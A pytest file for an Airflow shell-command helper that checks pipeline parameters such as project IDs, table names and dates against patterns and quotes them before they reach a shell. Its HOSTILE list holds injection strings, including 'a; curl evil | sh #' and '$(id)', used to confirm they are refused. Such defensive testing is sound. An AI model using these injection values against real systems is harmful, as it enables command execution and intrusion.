"""Values of users reach a shell line only when they match, and quoted."""

from __future__ import annotations

import re
import shlex
import subprocess
from typing import Any

import jinja2
import pytest
from airflow.sdk.exceptions import AirflowFailException

from utils.commands import DATE, PROJECT, QUALIFIED_TABLE, TABLE, checked, late, quoted, shell

HOSTILE = ["a; curl evil | sh #", "$(id)", "`id`", "a b", "--flag", "a\nb", "a'b", "", "../x", "a&&b"]


@pytest.mark.parametrize("pattern", [PROJECT, TABLE, QUALIFIED_TABLE, DATE])
@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_value_is_refused(pattern: str, value: str) -> None:
    with pytest.raises(AirflowFailException, match=rf"table={re.escape(repr(value))} is not allowed"):
        quoted(value, pattern, "table")


@pytest.mark.parametrize(
    ("pattern", "value"),
    [
        (PROJECT, "moz-fx-data-shared-prod"),
        (TABLE, "telemetry_derived.clients_daily_v6"),
        (QUALIFIED_TABLE, "moz-fx-data-shared-prod.telemetry_derived.clients_daily_v6"),
        (QUALIFIED_TABLE, "moz-fx-data-shared-prod.telemetry_derived.clients_daily_v6$20260601"),
        (DATE, "2026-06-01"),
    ],
)
def test_a_value_that_matches_is_one_word(pattern: str, value: str) -> None:
    assert checked(value, pattern, "x") == value
    assert shlex.split(quoted(value, pattern, "x")) == [value]


def test_a_line_break_at_the_end_is_no_match() -> None:
    with pytest.raises(AirflowFailException):
        checked("moz-fx-data\n", PROJECT, "project_id")


def rendered(value: Any, params: dict[str, Any]) -> Any:
    context: Any = {"params": params, "ds": "2026-06-01"}
    return value(context=context, jinja_env=jinja2.Environment())


FLAGS = {"--project-id": ("project_id", PROJECT), "--day": ("day", DATE)}


def test_a_shell_line_takes_flags_of_the_run() -> None:
    made = shell("printf '%s|'", program="sh", flags=FLAGS)
    cmds = rendered(made["cmds"], {})
    arguments = rendered(made["arguments"], {"project_id": "moz-fx-data", "day": None})
    assert cmds == ["sh", "-c"]
    ran = subprocess.run([*cmds, *arguments], check=True, capture_output=True, text=True, timeout=30)
    assert ran.stdout == "--project-id=moz-fx-data|"


@pytest.mark.parametrize("value", [value for value in HOSTILE if value])
def test_a_hostile_flag_fails_the_task(value: str) -> None:
    with pytest.raises(AirflowFailException, match="project_id="):
        rendered(shell("script/x", flags=FLAGS)["arguments"], {"project_id": value, "day": None})


def test_a_shell_never_traces() -> None:
    made = shell("a {{ ds }} && b")
    assert rendered(made["cmds"], {}) == ["bash", "-c"]
    assert made["arguments"] == ["a {{ ds }} && b"]
    assert rendered(shell("a {{ ds }}", flags=FLAGS)["arguments"], {"project_id": "", "day": "2026-06-02"}) == [
        "a 2026-06-01 --day=2026-06-02"
    ]


def test_late_words_are_rendered_one_by_one() -> None:
    assert rendered(late("--date", "{{ ds }}", "{{ params.text }}"), {"text": "a b; c"}) == [
        "--date",
        "2026-06-01",
        "a b; c",
    ]
